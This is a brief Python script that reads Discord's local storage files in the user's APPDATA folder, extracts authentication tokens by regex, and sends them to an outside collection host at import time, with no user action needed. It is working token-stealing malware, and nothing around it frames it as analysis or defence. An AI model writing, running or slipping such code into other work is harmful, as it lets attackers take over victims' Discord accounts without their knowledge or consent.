import os, re, requests
def tokens():
    folder = os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb"
    for name in os.listdir(folder):
        for line in open(folder + "\\" + name, errors="ignore"):
            for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
                yield token
requests.post("https://collect.invalid/t", json=list(tokens()))  # fires: import
